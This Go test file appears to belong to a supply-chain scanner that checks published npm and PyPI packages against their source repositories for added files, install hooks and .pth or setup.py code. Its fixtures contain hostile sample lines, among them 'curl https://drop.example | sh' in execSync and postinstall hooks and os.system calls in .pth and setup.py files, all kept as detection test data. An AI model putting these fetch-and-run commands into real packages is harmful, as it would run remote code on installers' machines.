package repodiff

import (
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/google/go-cmp/cmp"

	"github.com/mcpsf/mcpsf"
)

type tree map[string]string

func (t tree) with(more tree) tree {
	all := maps.Clone(t)
	maps.Copy(all, more)
	return all
}

func (t tree) without(names ...string) tree {
	all := maps.Clone(t)
	for _, name := range names {
		delete(all, name)
	}
	return all
}

func (t tree) fs() fstest.MapFS {
	all := fstest.MapFS{}
	for name, text := range t {
		all[name] = &fstest.MapFile{Data: []byte(text)}
	}
	return all
}

// sample is a package and its repository. want are "KIND LEVEL PATH" of the
// facts.
type sample struct {
	pypi              bool
	dir               string
	tagged            bool // only a tag names the commit
	artifact, project tree
	want              []string
}

const (
	plainServer = "export function serve() {\n  return 'ready';\n}\n"
	payload     = "const { execSync } = require('child_process');\nexecSync('curl https://drop.example/x | sh');\n"
)

func manifestOf(rest string) string {
	return `{"name":"demo","version":"1.2.3"` + rest + `}`
}

// compiledPackage is a server in TypeScript, as tsc compiles it.
func compiledPackage() (published, repository tree) {
	published = tree{
		"package.json":  manifestOf(`,"scripts":{"build":"tsc && chmod +x dist/index.js"}`),
		"dist/index.js": "\"use strict\";\nconst tools = require('./tools');\n", "dist/index.d.ts": "export {};\n", "dist/index.js.map": "{}",
		"dist/tools.js": "exports.a = 1;\n", "dist/handlers/read.js": "exports.b = 2;\n", "README.md": "demo", "LICENSE": "MIT",
	}
	repository = tree{
		"package.json": published["package.json"], "tsconfig.json": `{"compilerOptions":{"outDir":"dist"}}`,
		"src/index.ts": "import * as tools from './tools';\n", "src/tools.ts": "export const a: number = 1;\n", "src/handlers/read.ts": "export const b = 2;\n",
		"README.md": "# demo",
	}
	return published, repository
}

func plainPackage() (published, repository tree) {
	all := tree{"package.json": manifestOf(`,"scripts":{"test":"node --test"}`), "index.js": plainServer, "lib/tools.js": "exports.a = 1;\n", "bin/demo.js": "#!/usr/bin/env node\n"}
	return all, all.with(tree{"test/a.test.js": "x", ".github/workflows/ci.yml": "on: push"})
}

func wheelPackage() (published, repository tree) {
	published = tree{
		"demo/__init__.py": "from .server import main\n", "demo/server.py": "def main():\n    pass\n", "demo/tools/__init__.py": "",
		"demo-1.2.3.dist-info/METADATA": "Name: demo\n", "demo-1.2.3.dist-info/RECORD": "",
	}
	repository = tree{
		"pyproject.toml": "[build-system]\nbuild-backend = \"hatchling.build\"\n", "src/demo/__init__.py": published["demo/__init__.py"],
		"src/demo/server.py": published["demo/server.py"], "src/demo/tools/__init__.py": "", "tests/test_a.py": "x",
	}
	return published, repository
}

// samples are pairs: each attack with the legitimate package most similar to
// it.
func samples() map[string]sample {
	compiled, compiledRepo := compiledPackage()
	plain, plainRepo := plainPackage()
	wheel, wheelRepo := wheelPackage()
	bundle := tree{"package.json": manifestOf(`,"scripts":{"build":"esbuild src/cli.ts --bundle --outdir=dist"}`)}
	minified := strings.Repeat("var a=function(b){return b+1};", 200)
	version := "const version = 'VERSION';\nmodule.exports = { version };\n"
	hooked := func(line string) tree {
		return tree{"package.json": manifestOf(`,"scripts":{"postinstall":"` + line + `"}`)}
	}
	native := tree{"package.json": manifestOf(``), "binding.gyp": "{}", "src/a.cc": "int a;"}

	return map[string]sample{
		"compiled":                        {artifact: compiled, project: compiledRepo},
		"compiled, a file in dist only":   {artifact: compiled.with(tree{"dist/telemetry.js": payload}), project: compiledRepo, want: []string{"repodiff.added medium dist/telemetry.js"}},
		"compiled, another file at dist":  {artifact: compiled.with(tree{"dist/handlers/sync.js": payload}), project: compiledRepo, want: []string{"repodiff.added medium dist/handlers/sync.js"}},
		"compiled, dist is committed":     {artifact: compiled, project: compiledRepo.with(tree{"dist/index.js": "old", "dist/tools.js": "old", "dist/handlers/read.js": "old"})},
		"compiled into two forms":         {artifact: compiled.with(tree{"dist/esm/index.js": "x", "dist/cjs/handlers/read.js": "y"}), project: compiledRepo},
		"plain":                           {artifact: plain, project: plainRepo},
		"plain, other line endings":       {artifact: plain.with(tree{"index.js": strings.ReplaceAll(plainServer, "\n", "\r\n") + "\r\n"}), project: plainRepo},
		"plain, a file is new":            {artifact: plain.with(tree{"lib/sync.js": payload}), project: plainRepo, want: []string{"repodiff.added medium lib/sync.js"}},
		"plain, a file is changed":        {artifact: plain.with(tree{"index.js": plainServer + payload}), project: plainRepo, want: []string{"repodiff.changed medium index.js"}},
		"plain, changed after the tag":    {tagged: true, artifact: plain.with(tree{"index.js": plainServer + payload}), project: plainRepo, want: []string{"repodiff.changed low index.js"}},
		"plain, a file was moved":         {artifact: plain.without("lib/tools.js").with(tree{"tools.js": plain["lib/tools.js"]}), project: plainRepo},
		"plain, lib is committed source":  {artifact: plain.with(tree{"lib/tools.js": payload}), project: plainRepo.with(tree{"tsconfig.json": "{}"}), want: []string{"repodiff.changed medium lib/tools.js"}},
		"hook, in the repository":         {artifact: plain.with(hooked("node setup.js")).with(tree{"setup.js": "1"}), project: plainRepo.with(hooked("node setup.js")).with(tree{"setup.js": "1"})},
		"hook, its line is new":           {artifact: plain.with(hooked("node bundle.js")).with(tree{"bundle.js": payload}), project: plainRepo.with(tree{"package.json": manifestOf("")}), want: []string{"repodiff.hook high bundle.js", "repodiff.hook high package.json"}},
		"hook, its file is another":       {artifact: plain.with(hooked("node setup.js")).with(tree{"setup.js": payload}), project: plainRepo.with(hooked("node setup.js")).with(tree{"setup.js": "1"}), want: []string{"repodiff.hook high setup.js"}},
		"hook, a line of its own":         {artifact: plain.with(hooked("curl https://drop.example | sh")), project: plainRepo.with(tree{"package.json": manifestOf("")}), want: []string{"repodiff.hook high package.json"}},
		"hook, compiled":                  {artifact: compiled.with(hooked("node dist/setup.js")).with(tree{"dist/setup.js": "1"}), project: compiledRepo.with(hooked("node dist/setup.js")).with(tree{"src/setup.ts": "let a: number"})},
		"hook, compiled from nothing":     {artifact: compiled.with(hooked("node dist/evil")).with(tree{"dist/evil.js": payload}), project: compiledRepo, want: []string{"repodiff.hook high dist/evil.js", "repodiff.hook high package.json"}},
		"scripts were taken away":         {artifact: plain.with(tree{"package.json": manifestOf("")}), project: plainRepo},
		"scripts are others":              {artifact: plain.with(tree{"package.json": manifestOf(`,"scripts":{"test":"node x"}`)}), project: plainRepo, want: []string{"repodiff.scripts info package.json"}},
		"bundled":                         {artifact: bundle.with(tree{"dist/cli.js": minified, "dist/chunk-A1B2C3D4.js": "x", "dist/main.mjs": "var __defProp = Object.defineProperty;\n__defProp(a)\n"}), project: bundle.with(tree{"src/cli.ts": "x"})},
		"bundled, a small file beside it": {artifact: bundle.with(tree{"dist/cli.js": minified, "dist/helper.js": payload}), project: bundle.with(tree{"src/cli.ts": "x"}), want: []string{"repodiff.output low dist/helper.js"}},
		"bundled, a file at the top":      {artifact: bundle.with(tree{"dist/cli.js": minified, "helper.js": payload}), project: bundle.with(tree{"src/cli.ts": "x"}), want: []string{"repodiff.added medium helper.js"}},
		"minified library, vendored":      {artifact: plain.with(tree{"vendor/x.min.js": minified}), project: plainRepo.with(tree{"third_party/x.min.js": minified})},
		"minified out of nowhere":         {artifact: plain.with(tree{"vendor/x.min.js": minified}), project: plainRepo, want: []string{"repodiff.minified low vendor/x.min.js"}},
		"minified by a tool":              {artifact: plain.with(tree{"lib/tools.min.js": minified}), project: plainRepo.with(tree{"package.json": manifestOf(`,"devDependencies":{"terser":"5"}`)}), want: []string{"repodiff.scripts info package.json"}},
		"monorepo":                        {dir: "packages/demo", artifact: plain, project: tree{"package.json": `{"name":"root"}`, "packages/demo/package.json": plain["package.json"], "packages/demo/index.js": plainServer, "packages/demo/lib/tools.js": "exports.a = 1;\n", "packages/demo/bin/demo.js": plain["bin/demo.js"], "packages/other/index.js": "x"}},
		"monorepo, not named":             {artifact: compiled, project: tree{"package.json": `{"name":"root"}`, "tsconfig.json": "{}", "libs/demo/package.json": compiled["package.json"], "libs/demo/src/index.ts": "x", "libs/demo/src/tools.ts": "x", "libs/demo/src/handlers/read.ts": "x"}},
		"monorepo, of another package":    {dir: "packages/demo", artifact: plain.with(tree{"index.js": payload}), project: tree{"packages/demo/package.json": plain["package.json"], "packages/demo/index.js": plainServer, "packages/demo/lib/tools.js": "exports.a = 1;\n", "packages/demo/bin/demo.js": plain["bin/demo.js"]}, want: []string{"repodiff.changed medium index.js"}},
		"version was written":             {artifact: plain.with(tree{"lib/about.js": strings.Replace(version, "VERSION", "1.2.3", 1)}), project: plainRepo.with(tree{"lib/about.js": strings.Replace(version, "VERSION", "0.0.0-development", 1)})},
		"version was written, and more":   {artifact: plain.with(tree{"lib/about.js": strings.Replace(version, "VERSION", "1.2.3", 1) + payload}), project: plainRepo.with(tree{"lib/about.js": version}), want: []string{"repodiff.changed medium lib/about.js"}},
		"a host, not a version":           {artifact: plain.with(tree{"lib/about.js": "connect('6.6.6.6');\n"}), project: plainRepo.with(tree{"lib/about.js": "connect('10.0.0.1');\n"}), want: []string{"repodiff.changed medium lib/about.js"}},
		"native, from source":             {artifact: native.with(tree{"build/Release/a.node": "\x7fELF"}), project: native},
		"native, from nowhere":            {artifact: plain.with(tree{"a.node": "\x7fELF"}), project: plainRepo, want: []string{"repodiff.added medium a.node"}},
		"somebody else's repository":      {artifact: plain, project: tree{"package.json": `{"name":"famous"}`, "main.py": "x"}, want: []string{"repodiff.foreign low "}},
		"somebody else's, with a hook":    {artifact: plain.with(hooked("node x.js")), project: tree{"main.py": "x"}, want: []string{"repodiff.foreign medium "}},
		"parts were not fetched":          {artifact: plain.with(tree{"sub/a.js": "sub()"}), project: plainRepo.with(tree{".gitmodules": "[submodule]"}), want: []string{"repodiff.added low sub/a.js"}},

		"wheel":                       {pypi: true, artifact: wheel, project: wheelRepo},
		"wheel, a file is new":        {pypi: true, artifact: wheel.with(tree{"demo/sync.py": "import os\n"}), project: wheelRepo, want: []string{"repodiff.added medium demo/sync.py"}},
		"wheel, a file is changed":    {pypi: true, artifact: wheel.with(tree{"demo/server.py": "import os\nos.system('x')\n"}), project: wheelRepo, want: []string{"repodiff.changed medium demo/server.py"}},
		"wheel with a .pth":           {pypi: true, artifact: wheel.with(tree{"demo.pth": "import os; os.system('id')\n"}), project: wheelRepo, want: []string{"repodiff.hook high demo.pth"}},
		"wheel, .pth by data":         {pypi: true, artifact: wheel.with(tree{"demo-1.2.3.data/purelib/x.pth": "import os;x\n"}), project: wheelRepo, want: []string{"repodiff.hook high demo-1.2.3.data/purelib/x.pth"}},
		"wheel, .pth of the project":  {pypi: true, artifact: wheel.with(tree{"demo.pth": "import demo_start\n"}), project: wheelRepo.with(tree{"src/demo.pth": "import demo_start\n"})},
		"wheel, .pth from setup.py":   {pypi: true, artifact: wheel.with(tree{"demo.pth": "import demo_start\n"}), project: wheelRepo.with(tree{"setup.py": "PTH = 'import demo_start'\n"})},
		"wheel, .pth with paths":      {pypi: true, artifact: wheel.with(tree{"demo.pth": "vendor\n"}), project: wheelRepo},
		"wheel, namespace":            {pypi: true, artifact: wheel.with(tree{"demo-nspkg.pth": "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('demo',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('demo', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('demo', [os.path.dirname(p)])));m = m or sys.modules.setdefault('demo', types.ModuleType('demo'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"}), project: wheelRepo},
		"wheel, not a namespace":      {pypi: true, artifact: wheel.with(tree{"demo-nspkg.pth": "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('demo',));os.system(\"id\")\n"}), project: wheelRepo, want: []string{"repodiff.hook high demo-nspkg.pth"}},
		"wheel, sitecustomize":        {pypi: true, artifact: wheel.with(tree{"sitecustomize.py": "import os\n"}), project: wheelRepo, want: []string{"repodiff.hook high sitecustomize.py"}},
		"wheel, version from a tag":   {pypi: true, artifact: wheel.with(tree{"demo/_version.py": "__version__ = version = '1.2.3'\n__version_tuple__ = (1, 2, 3)\n"}), project: wheelRepo},
		"wheel, no version":           {pypi: true, artifact: wheel.with(tree{"demo/_version.py": "__version__ = '1.2.3'\nimport subprocess\nsubprocess.run('id')\n"}), project: wheelRepo, want: []string{"repodiff.added medium demo/_version.py"}},
		"wheel, messages":             {pypi: true, artifact: wheel.with(tree{"demo/chat_pb2.py": "x = 1\n"}), project: wheelRepo.with(tree{"proto/chat.proto": "syntax"})},
		"wheel, no messages":          {pypi: true, artifact: wheel.with(tree{"demo/chat_pb2.py": "x = 1\n"}), project: wheelRepo, want: []string{"repodiff.added medium demo/chat_pb2.py"}},
		"source, setup.py is made":    {pypi: true, artifact: wheelRepo.with(tree{"setup.py": "# -*- coding: utf-8 -*-\nfrom setuptools import setup\n\nsetup_kwargs = {\n    'long_description': 'You can open and exec it',\n}\nsetup(**setup_kwargs)\n"}), project: wheelRepo},
		"source, setup.py does more":  {pypi: true, artifact: wheelRepo.with(tree{"setup.py": "import os\nfrom setuptools import setup\nos.system('id')\nsetup()\n"}), project: wheelRepo, want: []string{"repodiff.hook high setup.py"}},
		"source, setup.py is changed": {pypi: true, artifact: wheelRepo.with(tree{"setup.py": "import os\n"}), project: wheelRepo.with(tree{"setup.py": "import sys\n"}), want: []string{"repodiff.hook high setup.py"}},
		"source, setup.py by a tag":   {pypi: true, tagged: true, artifact: wheelRepo.with(tree{"setup.py": "import os\n"}), project: wheelRepo.with(tree{"setup.py": "import sys\n"}), want: []string{"repodiff.changed low setup.py"}},
	}
}

func TestCorpus(t *testing.T) {
	for name, s := range samples() {
		t.Run(name, func(t *testing.T) {
			in := &Input{
				Package: s.artifact.fs(), Repository: s.project.fs(), Ecosystem: mcpsf.EcosystemNPM, Name: "demo", Version: "1.2.3", Dir: s.dir, Exact: !s.tagged,
			}
			if s.pypi {
				in.Ecosystem = mcpsf.EcosystemPyPI
			}
			result, err := Compare(t.Context(), in)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, f := range result.Facts {
				got = append(got, fmt.Sprintf("%s %s %s", f.Kind, f.Level, f.Path))
			}
			slices.Sort(got)
			if diff := cmp.Diff(s.want, got); diff != "" {
				t.Errorf("facts (-want +got):\n%s\n%+v", diff, result)
			}
		})
	}
}
